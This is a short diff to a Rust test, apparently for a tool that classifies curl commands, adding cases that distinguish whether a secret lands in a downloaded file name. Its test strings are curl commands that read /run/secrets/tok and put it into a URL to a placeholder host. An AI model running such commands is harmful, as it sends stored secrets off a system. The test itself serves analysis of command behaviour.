@@ -13,8 +13,13 @@ fn network() {
         "log",
     );
     check(
-        r#"curl -sSL "https://h/a?token=$(cat /run/secrets/tok)" -OJ"#,
+        r#"curl -sSL "https://h/a-$(cat /run/secrets/tok)" -OJ"#,
         "layer",
+    );
+    // The query is no part of the name.
+    check(
+        r#"curl -sSL "https://h/a?token=$(cat /run/secrets/tok)" -OJ"#,
+        "clean",
     );
     check(
         r#"curl -w '%{url}\n' -so /dev/null "https://h/?t=$(cat /run/secrets/tok)""#,
